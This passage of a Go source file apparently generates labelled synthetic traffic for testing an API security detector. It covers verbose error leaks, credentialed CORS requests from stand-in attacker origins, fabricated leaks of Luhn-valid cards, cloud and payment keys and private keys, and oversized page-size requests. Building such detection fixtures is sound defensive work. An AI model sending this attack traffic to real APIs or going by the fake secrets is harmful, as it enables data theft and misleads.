		}
	}
	return s
}

func h10VerboseAttacks(r *rand.Rand, port func() int, users []*h10User) []h10Ev {
	var s []h10Ev
	errs := []struct{ host, path, body, resp string }{
		{h10POS, "/v2/orders?page=abc", "", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x6a1b2c]\n\ngoroutine 8812 [running]:\ngithub.com/ladleline/pos/internal/orders.(*Handler).List(0xc0001a2000, {0x9b1f20, 0xc000712380}, 0xc0002f4d00)\n\t/src/internal/orders/handler.go:142 +0x1d4\nnet/http.HandlerFunc.ServeHTTP(...)\n\t/usr/local/go/src/net/http/server.go:2220\n"},
		{h10Proc, "/api/v3/invoices/INV-00000/lines", "", "java.lang.NullPointerException: Cannot invoke \"java.math.BigDecimal.multiply(java.math.BigDecimal)\" because \"unitPrice\" is null\n\tat com.procurant.invoice.LineService.total(LineService.java:88)\n\tat com.procurant.invoice.InvoiceController.lines(InvoiceController.java:141)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)"},
		{h10Legal, "/api/matters/M-2026-0000/conflicts", "", "Traceback (most recent call last):\n  File \"/app/docketrow/matters/views.py\", line 211, in conflicts\n    client = matter.parties[\"client\"]\n  File \"/usr/local/lib/python3.12/site-packages/django/db/models/base.py\", line 96, in __getitem__\nKeyError: 'client'"},
		{h10Legal, "/api/time-entries/0", "", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at DocketRow.Api.Controllers.TimeEntriesController.Get(Int32 id) in C:\\build\\src\\Api\\Controllers\\TimeEntriesController.cs:line 57\n   at lambda_method12(Closure , Object , Object[] )"},
		{h10POS, "/v2/couriers/undefined/location", "", "TypeError: Cannot read properties of undefined (reading 'lat')\n    at getLocation (/srv/app/routes/couriers.js:88:31)\n    at Layer.handle [as handle_request] (/srv/app/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"},
		{h10Proc, "/api/v3/catalog/export.php?format=xlsx", "", "PHP Fatal error:  Uncaught Error: Call to undefined function xlsx_writer() in /var/www/html/api/v3/catalog/export.php:42\nStack trace:\n#0 /var/www/html/api/index.php(118): require()\n#1 {main}\n  thrown in /var/www/html/api/v3/catalog/export.php on line 42"},
		{h10Proc, "/api/v3/catalog/export.php?format=csv&cols=", "", "<br />\n<b>Warning</b>:  Undefined array key \"cols\" in <b>/var/www/html/api/v3/catalog/export.php</b> on line <b>17</b><br />\nsku,description\n"},
		{h10Legal, "/api/billing/invoices/abc/pdf", "", "NoMethodError (undefined method 'total_cents' for nil:NilClass):\n  app/models/invoice.rb:23:in 'Invoice#total'\n  app/controllers/invoices_controller.rb:41:in 'InvoicesController#pdf'"},
		{h10POS, "/v2/menus/0/items", "", "thread 'tokio-runtime-worker' panicked at src/handlers/menu.rs:48:22:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"},
		{h10Proc, "/api/v3/suppliers?sort=ratingg", "", `{"message":"SQLSTATE[42S22]: Column not found: 1054 Unknown column 'ratingg' in 'order clause' (SQL: select * from suppliers order by ratingg asc limit 50)","exception":"Illuminate\\Database\\QueryException","file":"/var/www/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":829,"trace":[{"file":"/var/www/app/Http/Controllers/SupplierController.php","line":33,"function":"get","class":"Illuminate\\Database\\Query\\Builder"}]}`},
		{h10POS, "/v2/orders?from=2026-13-45", "", `{"error":"pq: invalid input syntax for type timestamp: \"2026-13-45\""}`},
		{h10Legal, "/api/matters?sort=openedd", "", `{"error":"ERROR: column \"openedd\" does not exist\nLINE 1: SELECT * FROM matters ORDER BY openedd\n                                       ^"}`},
		{h10POS, "/v2/loyalty/signup", `{"email":"dup@example.com","name":"Pat"}`, `{"error":"SQLITE_CONSTRAINT: UNIQUE constraint failed: members.email"}`},
		{h10Proc, "/api/v3/purchase-orders", `{"supplier_id":"seven","lines":[]}`, `{"error":"ER_TRUNCATED_WRONG_VALUE_FOR_FIELD: Incorrect integer value: 'seven' for column 'supplier_id' at row 1","code":"ER_TRUNCATED_WRONG_VALUE_FOR_FIELD","errno":1366,"sqlState":"HY000"}`},
		{h10Legal, "/api/billing/rates", `{"rate":"4250000000000"}`, `{"error":"[Microsoft][ODBC Driver 18 for SQL Server][SQL Server]Arithmetic overflow error converting numeric to data type numeric."}`},
		{h10Proc, "/api/v3/invoices?due_before=yesterday", "", `{"error":"ORA-01858: a non-numeric character was found where a numeric was expected"}`},
		{h10Proc, "/api/v3/reports/spend?year=20266", "", `{"error":"DB2 SQL Error: SQLCODE=-181, SQLSTATE=22007, SQLERRMC=null, DRIVER=4.28.11"}`},
		{h10POS, "/v2/reports/tips?courier=77", "", `{"error":"sql: Scan error on column index 2, name \"tip_total\": converting NULL to float64 is unsupported"}`},
		{h10Proc, "/api/v3/approvals/PO-000000/decision", `{"decision":"maybe"}`, "<!doctype html><html lang=\"en\"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class=\"line\" /><p><b>Type</b> Exception Report</p><p><b>Message</b> No enum constant com.procurant.approval.Decision.MAYBE</p><p><b>Exception</b></p><pre>java.lang.IllegalArgumentException: No enum constant com.procurant.approval.Decision.MAYBE\n\tjava.base/java.lang.Enum.valueOf(Enum.java:273)\n\tcom.procurant.approval.ApprovalController.decide(ApprovalController.java:64)\n</pre><hr class=\"line\" /><h3>Apache Tomcat/10.1.31</h3></body></html>"},
		{h10Legal, "/api/documents/preview?id=", "", "<!DOCTYPE html><html><head><title>ValueError at /api/documents/preview</title></head><body><div id=\"summary\"><h1>ValueError at /api/documents/preview</h1><pre class=\"exception_value\">invalid literal for int() with base 10: ''</pre><table class=\"meta\"><tr><th>Django Version:</th><td>5.1.3</td></tr><tr><th>Exception Location:</th><td>/app/docketrow/documents/views.py, line 88, in preview</td></tr></table></div><div id=\"traceback\"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>"},
		{h10POS, "/v2/kitchen/tickets/xyz", "", `{"type":"https://symfony.com/errors/500","title":"An error occurred","status":500,"detail":"Argument #1 ($id) must be of type int, string given","class":"TypeError","trace":[{"namespace":"","short_class":"","class":"","type":"","function":"","file":"/var/www/pos/src/Controller/TicketController.php","line":41,"args":[]}]}`},
		{h10POS, "/v2/menus/3/items/import", `{"rows":"x"}`, "file:///srv/app/dist/import.mjs:57\n    rows.map(parseRow)\n         ^\nTypeError: rows.map is not a function\n    at importItems (file:///srv/app/dist/import.mjs:57:10)\n    at async Router.handle (file:///srv/app/node_modules/@koa/router/lib/router.js:412:9)"},
		{h10Proc, "/api/v3/edi/validate", `{"doc":"UNB+UNOC:3"}`, `{"error":"Internal Server Error","exception":"Psr\\Container\\NotFoundExceptionInterface: Service \"edi.parser\" not found in /var/www/procurant/vendor/symfony/dependency-injection/Container.php:262"}`},
		{h10Legal, "/api/efiling/envelopes/ENV-1/status", "", `{"error":"undefined method 'status' for nil","backtrace":["/app/app/services/efiling/poll.rb:19:in 'Efiling::Poll#call'","/app/app/controllers/envelopes_controller.rb:12:in 'EnvelopesController#status'"]}`},
		{h10Legal, "/api/users/me/preferences", `{"timezone":"Mars/Olympus"}`, `{"error":"UnknownTimeZoneError","detail":"Traceback (most recent call last):\n  File \"/app/docketrow/users/prefs.py\", line 34, in update\n    tz = pytz.timezone(data[\"timezone\"])\n  File \"/usr/local/lib/python3.12/site-packages/pytz/__init__.py\", line 188, in timezone\n    raise UnknownTimeZoneError(zone)\npytz.exceptions.UnknownTimeZoneError: 'Mars/Olympus'"}`},
		{h10Proc, "/api/v3/invoices/ocr", `{"pages":-1}`, `{"message":"Unhandled exception","stack":"RangeError: Invalid array length\n    at OcrJob.allocate (/srv/ocr/src/job.ts:44:17)\n    at OcrJob.run (/srv/ocr/src/job.ts:21:10)\n    at node:internal/process/task_queues:105:5"}`},
	}
	a := h10Actor{addr: fmt.Sprintf("192.0.2.91:%d", port()), ua: "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", tok: h10ValidToken("u-scan-9005", "customer", h10POS)}
	for round := 0; round < 2; round++ {
		for i, x := range errs {
			m := "GET"
			if x.body != "" {
				m = "POST"
			}
			aa := a
			if round == 1 {
				// The same faults hit by ordinary users later in the day.
				var cands []*h10User
				for _, u := range users {
					if u.host == x.host {
						cands = append(cands, u)
					}
				}
				u := cands[(i*5)%len(cands)]
				aa = h10Actor{addr: fmt.Sprintf("%s:%d", u.ips[0], port()), ua: u.ua, tok: u.tok}
			}
			path := x.path
			if round == 1 {
				path = strings.Replace(path, "0000", "0001", 1)
			}
			rh := map[string][]string{"Content-Type": {"application/json"}}
			if strings.HasPrefix(x.resp, "<") {
				rh["Content-Type"] = []string{"text/html; charset=utf-8"}
			} else if !strings.HasPrefix(x.resp, "{") {
				rh["Content-Type"] = []string{"text/plain; charset=utf-8"}
			}
			e := h10Mk(aa, m, "https://"+x.host+path, x.body, 500, x.resp)
			e.rhdr = rh
			e.detector = []string{h10Verb}
			s = append(s, e)
		}
	}
	// CORS: foreign, null and wildcard origins allowed with credentials.
	cors := []struct{ host, path, origin, acao string }{
		{h10POS, "/v2/loyalty/me", "https://evil-eats.example", "https://evil-eats.example"},
		{h10Legal, "/api/users/me", "null", "null"},
		{h10Proc, "/api/v3/suppliers/me/bank", "https://procurant.test.attacker.example", "https://procurant.test.attacker.example"},
		{h10POS, "/v2/orders?status=open", "https://x.oast.example", "*"},
		{h10Legal, "/api/billing/invoices", "https://docketrow-test.example.net", "https://docketrow-test.example.net"},
		{h10Proc, "/api/v3/invoices?status=open", "null", "null"},
		{h10Legal, "/api/matters?q=", "http://app.docketrow.test", "http://app.docketrow.test"},
		{h10POS, "/v2/payments/methods", "https://ladleline.test.evil.example", "https://ladleline.test.evil.example"},
		{h10Proc, "/api/v3/approvals/inbox", "https://evil.example", "*"},
		{h10Legal, "/api/documents?limit=20", "https://phish.example", "https://phish.example"},
		{h10POS, "/v2/admin/staff", "null", "null"},
		{h10Proc, "/api/v3/users/me", "https://attacker.example.org", "https://attacker.example.org"},
		{h10POS, "/v2/reports/sales?from=2026-11-01", "http://app.ladleline.test", "http://app.ladleline.test"},
	}
	for _, c := range cors {
		e := h10Mk(a, "GET", "https://"+c.host+c.path, "", 200, `{"data":[{"id":1}]}`, "Origin", c.origin)
		e.rhdr = h10JSONHdr()
		e.rhdr["Access-Control-Allow-Origin"] = []string{c.acao}
		e.rhdr["Access-Control-Allow-Credentials"] = []string{"true"}
		e.rhdr["Vary"] = []string{"Origin"}
		e.detector = []string{h10Verb}
		s = append(s, e)
	}
	return s
}

// h10Card makes a Luhn-valid card number with the given prefix and length.
func h10Card(r *rand.Rand, prefix string, n int) string {
	for {
		c := prefix + h10Rand(r, n-len(prefix), "0123456789")
		if h10Luhn(c) {
			return c
		}
	}
}

func h10SensitiveAttacks(r *rand.Rand, port func() int) []h10Ev {
	var s []h10Ev
	a := h10Actor{addr: fmt.Sprintf("203.0.113.140:%d", port()), ua: "python-httpx/0.27.2", tok: h10ValidToken("u-proc-9006", "supplier", h10Proc)}
	b64 := h10AlNum + "+/"
	pem := func(kind string) string {
		var lines []string
		for i := 0; i < 8; i++ {
			lines = append(lines, h10Rand(r, 64, b64))
		}
		return "-----BEGIN " + kind + "-----\n" + "MIIEowIBAAKCAQEA" + strings.Join(lines, "\n") + "\n-----END " + kind + "-----\n"
	}
	type leak struct {
		host, path, ct string
		body           func() string
	}
	js := "application/json"
	leaks := []leak{
		{h10POS, "/v2/orders/48213/payment", js, func() string {
			return h10J(map[string]any{"payment": map[string]any{"card_number": h10Card(r, "4", 16), "exp": "09/29", "cvv": "431", "holder": "JAMIE ORTEGA"}})
		}},
		{h10POS, "/v2/customers/7781/cards", js, func() string {
			return h10J(map[string]any{"cards": []any{map[string]any{"pan": h10Card(r, "51", 16), "brand": "mastercard"}, map[string]any{"pan": h10Card(r, "37", 15), "brand": "amex"}}})
		}},
		{h10POS, "/v2/orders/48214/receipt", "text/plain; charset=utf-8", func() string {
			c := h10Card(r, "6011", 16)
			return "LADLE & LINE — Receipt #48214\nPad Kra Pao x1  14.50\nTip 3.00\nCharged to card " + c[:4] + " " + c[4:8] + " " + c[8:12] + " " + c[12:] + "\nThank you!"
		}},
		{h10Proc, "/api/v3/suppliers/884/payment-methods", js, func() string {
			return h10J(map[string]any{"methods": []any{map[string]any{"type": "card", "number": h10Card(r, "62", 16), "network": "unionpay"}}})
		}},
		{h10Proc, "/api/v3/exports/card-spend.csv", "text/csv", func() string {
			return "txn_id,merchant,card_number,amount\n881,Nordic Steel AB," + h10Card(r, "4", 16) + ",1240.00\n882,Acme Fasteners," + h10Card(r, "55", 16) + ",88.10\n"
		}},
		{h10Legal, "/api/billing/payments/9912", js, func() string {
			return h10J(map[string]any{"amount": "1,250.00", "source": map[string]any{"object": "card", "number": h10Card(r, "3528", 16), "exp_month": 4, "exp_year": 2029}})
		}},
		{h10POS, "/v2/staff/118", js, func() string {
			return h10J(map[string]any{"id": 118, "name": "Sam Kowalski", "role": "manager", "password_hash": "$2b$12$" + h10Rand(r, 53, h10AlNum+"./")})
		}},
		{h10Legal, "/api/users?role=partner", js, func() string {
			return h10J(map[string]any{"users": []any{map[string]any{"email": "r.okafor@docketrow.test", "password": "Litig8te!2026"}}})
		}},
		{h10Proc, "/api/v3/users/export", js, func() string {
			return h10J(map[string]any{"users": []any{map[string]any{"login": "ap.clerk2", "pwd_sha256": h10Rand(r, 64, h10Hex)}}})
		}},
		{h10Legal, "/api/users/31", js, func() string {
			return h10J(map[string]any{"id": 31, "password_digest": "$argon2id$v=19$m=65536,t=3,p=4$" + h10Rand(r, 22, b64) + "$" + h10Rand(r, 43, b64)})
		}},
		{h10Proc, "/api/v3/integrations/sftp", js, func() string {
			return h10J(map[string]any{"host": "sftp.partner-erp.example.com", "user": "procurant", "private_key": pem("OPENSSH PRIVATE KEY")})
		}},
		{h10POS, "/v2/debug/config", js, func() string { return h10J(map[string]any{"tls_key": pem("RSA PRIVATE KEY")}) }},
		{h10Legal, "/api/efiling/certs", js, func() string { return h10J(map[string]any{"signing_key": pem("EC PRIVATE KEY")}) }},
		{h10Legal, "/api/.well-known/jwks-all.json", js, func() string {
			return h10J(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "2026-11-key_1", "n": h10Rand(r, 342, h10AlNum), "e": "AQAB", "d": h10Rand(r, 342, h10AlNum), "p": h10Rand(r, 171, h10AlNum), "q": h10Rand(r, 171, h10AlNum)}}})
		}},
		{h10Proc, "/api/v3/settings/storage", js, func() string {
			return h10J(map[string]any{"provider": "aws", "aws_access_key_id": "AKIA" + h10Rand(r, 16, h10Upper), "aws_secret_access_key": h10Rand(r, 40, b64)})
		}},
		{h10Proc, "/api/v3/settings/azure", js, func() string {
			return h10J(map[string]any{"connection": "DefaultEndpointsProtocol=https;AccountName=procurantdocs;AccountKey=" + h10Rand(r, 86, b64) + "==;EndpointSuffix=core.windows.net"})
		}},
		{h10Legal, "/api/integrations/servicebus", js, func() string {
			return h10J(map[string]any{"conn": "Endpoint=sb://docketrow.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + h10Rand(r, 43, b64) + "="})
		}},
		{h10Proc, "/api/v3/settings/blob-sas", js, func() string {
			return h10J(map[string]any{"sas_url": "https://procurantdocs.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-11-30T00:00:00Z&st=2026-11-29T00:00:00Z&spr=https&sig=" + url.QueryEscape(h10Rand(r, 43, b64)+"=")})
		}},
		{h10Proc, "/api/v3/integrations/github", js, func() string {
			return h10J(map[string]any{"repo": "procurant/edi-maps", "token": "ghp_" + h10Rand(r, 36, h10AlNum)})
		}},
		{h10Legal, "/api/integrations/gitlab", js, func() string {
			return h10J(map[string]any{"project": 4411, "access": "glpat-" + h10Rand(r, 20, h10AlNum)})
		}},
		{h10POS, "/v2/integrations/slack", js, func() string {
			return h10J(map[string]any{"channel": "#kitchen", "bot": fmt.Sprintf("xoxb-%d-%d-%s", 1000000000+r.Intn(899999999), 1000000000+r.Intn(899999999), h10Rand(r, 24, h10AlNum))})
		}},
		{h10Proc, "/api/v3/integrations/npm", js, func() string {
			return h10J(map[string]any{"registry": "https://registry.npmjs.org", "auth": "npm_" + h10Rand(r, 36, h10AlNum)})
		}},
		{h10POS, "/v2/integrations/shopify", js, func() string {
			return h10J(map[string]any{"shop": "ladleline.myshopify.com", "admin_token": "shpat_" + h10Rand(r, 32, h10Hex)})
		}},
		{h10POS, "/v2/settings/payments", js, func() string {
			return h10J(map[string]any{"mode": "live", "stripe": "sk_live_51" + h10Rand(r, 97, h10AlNum)})
		}},
		{h10POS, "/v2/settings/square", js, func() string {
			return h10J(map[string]any{"location": "L8K2", "access_token": "EAAA" + h10Rand(r, 60, h10AlNum), "app_secret": "sq0csp-" + h10Rand(r, 43, h10AlNum+"-_")})
		}},
		{h10Legal, "/api/ai/settings", js, func() string {
			return h10J(map[string]any{"summarizer": "gpt", "openai_key": "sk-proj-" + h10Rand(r, 156, h10AlNum+"-_")})
		}},
		{h10Proc, "/api/v3/ai/settings", js, func() string {
			return h10J(map[string]any{"model": "claude", "key": "sk-ant-api03-" + h10Rand(r, 93, h10AlNum+"-_") + "AA"})
		}},
		{h10Proc, "/api/v3/debug/db", js, func() string {
			return h10J(map[string]any{"dsn": "postgres://procurant_app:" + h10Rand(r, 18, h10AlNum) + "@db-prod-1.internal:5432/procurant?sslmode=require"})
		}},
		{h10Legal, "/api/debug/env", js, func() string {
			return h10J(map[string]any{"MONGO_URL": "mongodb+srv://docket_admin:" + h10Rand(r, 16, h10AlNum) + "@cluster0.ab12c.mongodb.net/docketrow"})
		}},
		{h10POS, "/.env", "text/plain", func() string {
			return "APP_ENV=production\nAPP_DEBUG=false\nDB_HOST=10.0.3.12\nDB_USER=pos\nDB_PASSWORD=" + h10Rand(r, 20, h10AlNum) + "\nSTRIPE_SECRET_KEY=sk_live_51" + h10Rand(r, 97, h10AlNum) + "\nMAIL_PASSWORD=" + h10Rand(r, 16, h10AlNum) + "\n"
		}},
		{h10Proc, "/config/app.ini", "text/plain", func() string {
			return "[database]\nhost = db-prod-1\nuser = procurant\npassword = " + h10Rand(r, 18, h10AlNum) + "\n\n[smtp]\nhost = smtp.example.net\n"
		}},
		{h10Legal, "/config/settings.toml", "text/plain", func() string {
			return "[server]\nport = 8080\n\n[database]\nurl = \"mysql://docket:" + h10Rand(r, 14, h10AlNum) + "@10.0.4.7:3306/docket\"\n"
		}},
		{h10POS, "/oauth/token", js, func() string {
			return h10J(map[string]any{"access_token": h10Rand(r, 40, h10AlNum), "token_type": "Bearer", "expires_in": 3600, "client_secret": h10Rand(r, 48, h10AlNum)})
		}},
	}
	for round := 0; round < 2; round++ {
		for i, l := range leaks {
			path := l.path
			if round == 1 {
				path += map[bool]string{true: "&", false: "?"}[strings.Contains(path, "?")] + "include=all"
			}
			e := h10Mk(a, "GET", "https://"+l.host+path, "", 200, l.body())
			e.rhdr = map[string][]string{"Content-Type": {l.ct}}
			e.detector = []string{h10Sens}
			_ = i
			s = append(s, e)
		}
	}
	return s
}

func h10ResourceAttacks(r *rand.Rand, port func() int) []h10Ev {
	var s []h10Ev
	a := h10Actor{addr: fmt.Sprintf("198.51.100.240:%d", port()), ua: "Scrapy/2.11.2 (+https://scrapy.org)", tok: h10ValidToken("u-ladl-9007", "customer", h10POS)}
	sizes := []string{"1001", "1500", "2500", "5000", "10000", "50000", "100000", "999999", "2147483647", "00005000"}
	names := []string{"limit", "per_page", "perPage", "page_size", "pageSize", "PageSize", "top", "maxItems", "max_results", "results_per_page", "itemsPerPage", "items_per_page", "pageLimit", "rows_per_page", "max_page_size", "maxPageSize", "numItems", "maxRecords", "recordsPerPage"}
	paths := []string{"https://" + h10POS + "/v2/orders", "https://" + h10Legal + "/api/matters", "https://" + h10Proc + "/api/v3/invoices", "https://" + h10Proc + "/api/v3/suppliers", "https://" + h10Legal + "/api/time-entries", "https://" + h10POS + "/v2/menus/3/items"}
	n := 0
	add := func(e h10Ev) {
		e.detector = []string{h10Res}
		s = append(s, e)
		n++
	}
	for i, nm := range names {
		for j := 0; j < 2; j++ {
			sz := sizes[(i*2+j)%len(sizes)]
			u := paths[(i+j)%len(paths)] + "?" + nm + "=" + sz + "&page=1"
			if j == 1 {
				u = paths[(i+j)%len(paths)] + "?status=open&" + nm + "=" + sz
			}
			add(h10Mk(a, "GET", u, "", 200, `{"data":[],"truncated":true}`))
		}
	}
	// Encoded and form-encoded.
	add(h10Mk(a, "GET", "https://"+h10POS+"/v2/orders?limit=%35%30%30%30", "", 200, `{"data":[]}`))
	add(h10Mk(a, "GET", "https://"+h10Proc+"/api/v3/invoices?page_size=%31%30%30%30%30", "", 200, `{"data":[]}`))
	for i, f := range []string{"limit=100000", "per_page=20000&page=1", "pageSize=5000&sort=name"} {
		add(h10Mk(a, "POST", "https://"+[]string{h10POS, h10Legal, h10Proc}[i]+"/api/search", f, 200, `{"hits":[]}`, "Content-Type", "application/x-www-form-urlencoded"))
	}
	// JSON at depth.
	bodies := []string{
		`{"query":{"status":"open"},"pagination":{"size":5000,"cursor":null}}`,
		`{"from":0,"size":10000,"query":{"match":{"supplier":"acme"}}}`,
		`{"page":{"number":1,"size":20000}}`,
		`{"paging":{"limit":99999}}`,
		`{"filter":{"matter":"M-2026-0412"},"options":{"per_page":2000}}`,
		`{"request":{"pageable":{"page":0,"size":100000}}}`,
		`{"criteria":{"year":2026},"pager":{"pageSize":7500}}`,
		`{"search":{"text":"invoice"},"maxResults":25000}`,
		`{"params":{"itemsPerPage":3000,"page":1}}`,
		`{"list":{"limit":1000000}}`,
	}
	for i, b := range bodies {
		add(h10Mk(a, "POST", paths[i%len(paths)]+"/search", b, 200, `{"data":[],"total":0}`))
	}
	// GraphQL arguments and variables.
	gql := []string{
		`{"query":"query { orders(limit: 50000) { id total } }"}`,
		`{"query":"query Q($n: Int!) { invoices(pageSize: $n) { id amount } }","variables":{"n":100000}}`,
		`{"query":"{ matters(filter: {status: OPEN}, perPage: 9000) { id title } }"}`,
		`{"query":"query($lim:Int){ suppliers(limit:$lim){ id name } }","variables":{"lim":250000}}`,
		`{"query":"{ menuItems(top: 5000) { id name price } }"}`,
	}
	for i, g := range gql {
		add(h10Mk(a, "POST", "https://"+[]string{h10POS, h10Proc, h10Legal, h10Proc, h10POS}[i]+"/graphql", g, 200, `{"data":{}}`))
	}
	// Path-style page sizes.
	for _, p := range []string{"https://" + h10Legal + "/api/documents/list/per_page/5000", "https://" + h10POS + "/v2/orders/archive/per_page/100000", "https://" + h10Proc + "/api/v3/catalog/per_page/20000"} {
		add(h10Mk(a, "GET", p, "", 200, `{"data":[]}`))
	}
	// JSON bodies above 10 MiB.
	for i, sz := range []int{12 << 20, 48 << 20} {
		e := h10Mk(a, "POST", "https://"+[]string{h10Proc, h10POS}[i]+"/api/bulk/import", `{"rows":[{"sku":"A-1","qty":1},{"sku":"A-2","qty":1}`, 413, `{"error":"payload_too_large"}`)
		e.bsize = sz
		add(e)
	}
	return s
}
